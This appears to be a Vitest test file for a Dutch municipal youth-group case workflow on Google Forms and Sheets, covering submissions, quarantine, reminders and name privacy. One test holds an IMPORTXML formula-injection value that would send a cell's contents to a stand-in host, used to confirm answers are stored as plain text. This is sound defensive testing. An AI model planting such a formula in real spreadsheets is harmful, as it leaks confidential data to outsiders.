import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { snapshotForm } from '../../src/local/apps-script/forms';
import { formModelOf } from '../../src/local/apps-script/forms-model';
import { snapshotSpreadsheet } from '../../src/local/apps-script/spreadsheet';
import { openCase, openRegister, UserError } from '../../src/workflow/context';
import { recordDecision } from '../../src/workflow/decide';
import { dispatchAll } from '../../src/workflow/dispatcher';
import { addPersons } from '../../src/workflow/persons';
import { rebuildViews } from '../../src/workflow/publish';
import { reconcileCase } from '../../src/workflow/reconcile';
import { ANSWERS, DECISIONS, FORMS, LOG, QUARANTINE } from '../../src/workflow/records';
import { readTable } from '../../src/workspace/tables';
import type { Played } from './helpers';
import { PERSONS, play, shortScenario, visibleTabs } from './helpers';

let p: Played;

beforeAll(() => {
  p = play(shortScenario());
});
afterAll(() => p.local.dispose());

function handle() {
  return openCase(openRegister(), p.result.caseHandle.row.code);
}

describe('een korte casus: signalen, 2A niet problematisch', () => {
  it('opent een casus met een code, een map, een casusspreadsheet en een integraal beeld zonder namen', () => {
    const h = handle();
    expect(h.row.code).toBe('JGA-2026-001');
    const names = [...p.local.rt.drive.values()].map((e) => e.name);
    expect(names).toContain('JGA-2026-001 casusspreadsheet');
    expect(names).toContain('JGA-2026-001 integraal beeld');
    for (const n of names) for (const person of PERSONS) expect(n).not.toContain(person.naam);
  });

  it('maakt per stap één formulier per deelnemende partner, gepubliceerd, zonder samenvatting en met alleen de eigen vragen', () => {
    const forms = readTable(handle().ss, FORMS);
    expect(forms.map((f) => f.formKey)).toEqual([
      '1#1#politie',
      '1#1#jongerenwerk',
      '1#1#boa',
      '2A#1#politie',
      '2A#1#jongerenwerk',
      '2A#1#boa',
    ]);
    const politie = snapshotForm(p.local.rt, String(forms[0]!.formId));
    const boa = snapshotForm(p.local.rt, String(forms[2]!.formId));
    expect(politie.title).toBe('JGA-2026-001 · Stap 1 · Politie Basisteam Testdorp');
    expect(politie.description).toContain('uiterlijk');
    const model = formModelOf(p.local.rt, String(forms[0]!.formId));
    expect(model.publishingSummary).toBe(false);
    expect(model.allowResponseEdits).toBe(true);
    // Every form is closed once its gate was decided.
    expect(model.acceptingResponses).toBe(false);
    const titles = (s: typeof politie) => s.items.map((i) => i.title);
    expect(titles(politie).some((t) => /meldingen/i.test(t))).toBe(true);
    expect(titles(boa)).not.toEqual(titles(politie));
  });

  it('§4.3 #1: twee inzendingen van één partner blijven twee inzendingen, en de procesregisseur ziet er twee', () => {
    const ledger = readTable(handle().ss, ANSWERS);
    const politie = ledger.filter((r) => r.formKey === '1#1#politie');
    expect(new Set(politie.map((r) => r.responseId)).size).toBe(2);
    // Both are version 1 of their own response: nothing merged, nothing counted as an edit.
    expect(new Set(politie.map((r) => r.version))).toEqual(new Set([1]));
    const tab = visibleTabs(p, handle().row.spreadsheetId).Formulieren!;
    const header = tab[0]!;
    const row = tab.find((r) => r[0] === 'Stap 1' && String(r[2]).startsWith('Politie'))!;
    expect(row[header.indexOf('Inzendingen')]).toBe(2);
  });

  it('§4.3 #4: een bewerking wordt een nieuwe versie van dezelfde inzending', () => {
    const boa = readTable(handle().ss, ANSWERS).filter((r) => r.formKey === '1#1#boa');
    expect(new Set(boa.map((r) => r.responseId)).size).toBe(1);
    expect(new Set(boa.map((r) => r.version))).toEqual(new Set([1, 2]));
    expect(boa.filter((r) => r.version === 2 && r.questionId === '1.functie').map((r) => r.value)).toEqual([
      'jeugdboa',
    ]);
  });

  it('§4.3 #3: een lege inzending (spook) wordt genegeerd en één keer geteld in het Logboek', () => {
    const h = handle();
    expect(readTable(h.ss, ANSWERS).filter((r) => r.formKey === '1#1#jongerenwerk')).toEqual([]);
    const ghosts = readTable(h.ss, LOG).filter((l) => l.event === 'lege inzending');
    expect(ghosts.map((l) => l.detail)).toEqual(['1#1#jongerenwerk: 1 lege inzending genegeerd']);
  });

  it('lege, dubbele en bewerkte inzendingen staan in de samenvatting van de run en in het Logboek', () => {
    expect(p.lines).toContain(
      '  inzendingen: politie (werkdag 1), boa (werkdag 2); dubbel ingezonden: politie; bewerkt: boa (werkdag 3); lege inzending (genegeerd): jongerenwerk; geen antwoord: jongerenwerk',
    );
    expect(p.lines).toContain('  inzendingen: geen; geen antwoord: politie, jongerenwerk, boa');
    const log = readTable(handle().ss, LOG);
    const details = (event: string) => log.filter((l) => l.event === event).map((l) => l.detail);
    expect(details('extra inzending')).toEqual([
      '1#1#politie: 1 extra inzending(en) van dezelfde partner; alle worden bewaard',
    ]);
    expect(details('antwoorden gewijzigd')).toEqual(['1 gewijzigde inzending(en)']);
    expect(details('lege inzending')).toHaveLength(1);
  });

  it('§4.3 #5, #6: bewaart elk antwoord als tekst: geen formule, geen getal, ook niet met +31 ervoor', () => {
    for (const id of [handle().row.spreadsheetId, p.result.register.ss.getId()]) {
      const snap = snapshotSpreadsheet(p.local.rt, id);
      const formulas = snap.sheets.flatMap((s) => s.formulas.flat().filter((f) => f !== ''));
      expect(formulas).toEqual([]);
    }
    const ledger = readTable(handle().ss, ANSWERS);
    const values = ledger.map((r) => r.value);
    expect(values).toContain('=IMPORTXML("https://x.example/?"&A1,"//a")');
    expect(values).toContain('+31 6 12345678');
  });

  it('2A niet problematisch sluit de casus met een lichte route en zonder namenlijst', () => {
    const h = handle();
    expect(h.row.status).toBe('gesloten');
    expect(h.row.namesId).toBe('');
    const d = readTable(h.ss, DECISIONS).at(-1)!;
    expect(d.outcome).toBe('niet_problematisch');
    expect(d.route).toBe('lichte_interventie');
    expect(() => addPersons(h, [{ naam: 'Iemand' }])).toThrow(UserError);
    expect(() => addPersons(h, [{ naam: 'Iemand' }])).toThrow(/is gesloten/);
  });

  it('weigert een besluit dat de huidige toestand niet toelaat, en verandert dan niets', () => {
    const h = handle();
    const before = readTable(h.ss, DECISIONS).length;
    expect(() =>
      recordDecision(
        h,
        {
          step: '3',
          round: 1,
          outcome: 'gereed',
          motivation: 'x',
          decidedBy: 'procesregisseur',
          date: '2026-03-02',
        },
        'test@gemeente.example',
      ),
    ).toThrow(/gesloten/);
    expect(readTable(h.ss, DECISIONS).length).toBe(before);
  });

  it('reconcile is idempotent: twee keer draaien, of met omgekeerde volgorde van inzendingen, verandert niets', () => {
    const h = handle();
    const ledger = readTable(h.ss, ANSWERS);
    for (const f of readTable(h.ss, FORMS)) formModelOf(p.local.rt, String(f.formId)).responses.reverse();
    const r1 = reconcileCase(h, { includeClosed: true });
    const r2 = reconcileCase(h, { includeClosed: true });
    expect(r1.changed).toBe(false);
    expect(r2.changed).toBe(false);
    expect(readTable(h.ss, ANSWERS)).toEqual(ledger);
  });

  it('een nieuwe dispatcher-run verstuurt geen enkele mail opnieuw', () => {
    const before = p.local.rt.mailbox.length;
    p.local.rt.beginExecution();
    dispatchAll(openRegister());
    p.local.rt.endExecution();
    expect(p.local.rt.mailbox.length).toBe(before);
  });

  it('mailt per partner één uitnodiging per stap en herinnert alleen wie niet antwoordde', () => {
    const mails = p.local.rt.mailbox;
    const invites = mails.filter((m) => m.subject.startsWith('Uitvraag'));
    expect(invites.length).toBe(6);
    const reminders = mails.filter((m) => m.subject.startsWith('Herinnering'));
    // Step 1: only jongerenwerk (a ghost) did not answer; step 2A nobody answered.
    const step1 = reminders.filter((m) => m.subject.includes('stap 1 '));
    expect(step1.map((m) => m.to[0])).toEqual(['team@jongerenwerk.example', 'team@jongerenwerk.example']);
    for (const m of mails) {
      // The coordinator's digest covers every case; all other mails name their case.
      if (!m.subject.startsWith('Dagoverzicht')) expect(m.subject).toContain('JGA-2026-001');
      for (const person of PERSONS) expect(`${m.subject}\n${m.body}`).not.toContain(person.naam);
    }
  });
});

describe('bijzondere inzendingen en termijnen', () => {
  it('§4.3 #13: zet antwoorden van een onbekend formulier in de casusmap in quarantaine, één keer', () => {
    const h = handle();
    const stray = FormApp.create('Handgemaakt formulier');
    stray.addTextItem().setTitle('Opmerking');
    DriveApp.getFileById(stray.getId()).moveTo(DriveApp.getFolderById(h.row.folderId));
    stray
      .createResponse()
      .withItemResponse(stray.getItems()[0]!.asTextItem().createResponse('los antwoord'))
      .submit();
    const first = reconcileCase(h);
    const second = reconcileCase(h);
    expect(first.quarantined).toBe(1);
    expect(second.quarantined).toBe(0);
    const q = readTable(h.ss, QUARANTINE);
    expect(q.map((r) => r.reason)).toEqual(['onbekend formulier']);
    // The coordinator sees it in the Overzicht.
    rebuildViews(h);
    const overview = snapshotSpreadsheet(p.local.rt, h.row.spreadsheetId).sheets.find(
      (s) => s.name === 'Overzicht',
    )!;
    expect(JSON.stringify(overview.values)).toContain('Quarantaine: 1 antwoord(en)');
    expect(readTable(h.ss, ANSWERS).some((r) => r.value === 'los antwoord')).toBe(false);
  });

  it('zet een antwoord op een met de hand toegevoegde vraag in quarantaine en verwerkt de rest', () => {
    const h = handle();
    const row = readTable(h.ss, FORMS).find((f) => f.formKey === '2A#1#politie')!;
    const form = FormApp.openById(String(row.formId));
    form.setAcceptingResponses(true);
    const extra = form.addTextItem().setTitle('Extra vraag van de regisseur');
    const map = JSON.parse(String(row.itemMap)) as Record<string, string>;
    const functie = form.getItems().find((i) => map[String(i.getId())] === '2A.functie');
    let resp = form.createResponse().withItemResponse(extra.createResponse('buiten de lijst'));
    if (functie) resp = resp.withItemResponse(functie.asTextItem().createResponse('wijkagent'));
    resp.submit();
    const r = reconcileCase(h, { includeClosed: true });
    expect(r.quarantined).toBe(1);
    expect(readTable(h.ss, QUARANTINE).some((q) => String(q.reason).startsWith('onbekend item'))).toBe(true);
  });

  it('§4.3 #25: wie niet antwoordt (ook na een bounce die MailApp niet ziet) krijgt een herinnering en daarna een escalatie, in werkdagen', () => {
    const h = handle();
    const forms = readTable(h.ss, FORMS);
    // Step 1 started Monday 12 January 2026: ten working days later is Monday 26 January.
    expect(forms.find((f) => f.formKey === '1#1#politie')!.deadline).toBe('2026-01-26');
    const log = readTable(h.ss, LOG)
      .filter((l) => l.event === 'escalatie')
      .map((l) => l.detail);
    expect(log).toEqual(expect.arrayContaining(['2A#1#politie', '2A#1#jongerenwerk', '2A#1#boa']));
    const overview = snapshotSpreadsheet(p.local.rt, h.row.spreadsheetId).sheets.find(
      (s) => s.name === 'Overzicht',
    )!;
    expect(JSON.stringify(overview.values)).toMatch(/te laat/);
  });
});
